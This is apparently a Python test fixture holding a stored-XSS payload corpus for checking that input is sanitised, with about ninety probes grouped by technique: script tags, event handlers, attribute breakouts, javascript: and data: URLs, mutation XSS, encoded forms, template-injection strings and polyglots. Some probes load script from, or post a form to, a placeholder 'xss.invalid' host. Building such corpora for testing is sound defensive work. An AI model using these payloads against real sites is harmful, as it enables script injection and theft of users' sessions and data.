"""The usual stored-XSS corpus, each probe leaving a trace should it ever run or render.

A probe that runs calls ``alert``, ``confirm`` or ``prompt``, sets ``window.__xss``, or
loads something from ``xss.invalid``. A probe that becomes markup makes an element with a
``data-xss`` attribute, an ``on…`` handler or a ``javascript:`` address. A probe that a
template engine or a decoder interprets no longer reads as the text that was sent."""

from __future__ import annotations

MARKER = "data-xss"
TRAP_HOST = "xss.invalid"

PAYLOADS: tuple[str, ...] = (
    # Script elements.
    "<script>alert(1)</script>",
    "<script data-xss>window.__xss=1</script>",
    "<SCRIPT SRC=//xss.invalid/x.js data-xss></SCRIPT>",
    "<script src=data:,alert(1) data-xss></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</script><script data-xss>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1) data-xss>",
    '<img src="x" onerror="window.__xss=1" data-xss>',
    "<svg onload=alert(1) data-xss>",
    "<svg/onload=confirm(1) data-xss>",
    "<body onload=prompt(1) data-xss>",
    "<details open ontoggle=alert(1) data-xss>",
    "<input autofocus onfocus=alert(1) data-xss>",
    "<select autofocus onfocus=alert(1) data-xss></select>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) data-xss>",
    "<marquee onstart=alert(1) data-xss>xss</marquee>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0 data-xss></div>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s data-xss>",
    "<img src=1 onerror=import('//xss.invalid/m.js') data-xss>",
    "<x contenteditable autofocus onfocusin=alert(1) data-xss>edit me</x>",
    "<img\nsrc=x\tonerror=alert(1)\ndata-xss>",
    # Breaking out of an attribute, a textarea, a title, a select, a style, a comment.
    '"><svg onload=alert(1) data-xss>',
    "'><img src=x onerror=alert(1) data-xss>",
    '" autofocus onfocus="alert(1)" data-xss="',
    "' autofocus onfocus='alert(1)' data-xss='",
    '" data-xss="1',
    "` onmouseover=alert(1) data-xss=`",
    '"/><script>alert(1)</script>',
    "</textarea><script>alert(1)</script><textarea data-xss>",
    "</title><svg onload=alert(1) data-xss>",
    "</option></select><img src=x onerror=alert(1) data-xss>",
    "</style><svg onload=alert(1) data-xss>",
    "--><svg onload=alert(1) data-xss><!--",
    # Breaking out of a script's string.
    "';alert(1);//",
    '";window.__xss=1;//',
    "\\';alert(1);//",
    # Addresses: javascript:, data:, frames, forms, refresh, base, style sheets.
    '<a href="javascript:alert(1)" data-xss>click</a>',
    '<a href="jav&#x09;ascript:alert(1)" data-xss>tab</a>',
    "<a href=JaVaScRiPt:alert(1) data-xss>mixed</a>",
    "javascript:alert(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-xss>data</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>" data-xss></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>" data-xss></iframe>',
    "<iframe src=//xss.invalid/frame data-xss></iframe>",
    '<object data="javascript:alert(1)" data-xss></object>',
    "<embed src=//xss.invalid/x.swf data-xss>",
    '<form action="//xss.invalid/steal" data-xss><button>Send</button></form>',
    '<button form=x formaction="javascript:alert(1)" data-xss>go</button>',
    '<meta http-equiv="refresh" content="0;url=//xss.invalid/refresh" data-xss>',
    '<base href="//xss.invalid/" data-xss>',
    "<link rel=stylesheet href=//xss.invalid/x.css data-xss>",
    "<img srcset=//xss.invalid/s.png data-xss>",
    "<svg><use href=//xss.invalid/u.svg#a data-xss /></svg>",
    '<svg><a xlink:href="javascript:alert(1)" data-xss><text y=20>xss</text></a></svg>',
    # CSS.
    '<div style="background:url(//xss.invalid/bg.png);width:expression(alert(1))" data-xss>',
    "<style>@import '//xss.invalid/i.css';*{background:url(//xss.invalid/b.png)}</style>",
    "<table background=//xss.invalid/t.png data-xss><td>x</td></table>",
    # Parser differentials and mutation XSS.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    "<svg><style><img src=x onerror=alert(1) data-xss></style></svg>",
    "<template><script>alert(1)</script></template><template data-xss></template>",
    '<xmp><p title="</xmp><svg onload=alert(1) data-xss>">',
    '<!--<img src="--><img src=x onerror=alert(1) data-xss//">',
    "<![CDATA[<script>alert(1)</script>]]><b data-xss>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src data-xss>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1) data-xss>">',
    '<img """><script>alert(1)</script>">',
    # Encoded: entities, percent, JavaScript and Unicode escapes, look-alikes, UTF-7.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1) data-xss&#62;",
    "&#x3C;svg onload=alert(1) data-xss&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1) data-xss\\x3e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41; data-xss>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<svg onload=alert(1) data-xss>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Template injection: Jinja2, JavaScript template literals, Ruby, ERB, AngularJS.
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ self.__init__.__globals__ }}",
    "{% raw %}{{ 7*'7' }}{% endraw %}",
    # Polyglots.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"><img src=x onerror=alert(1) data-xss>{{7*7}}${7*7}<!--",
    "\"'--></style></script><script>alert(1)</script><svg onload=alert(1) data-xss>",
)
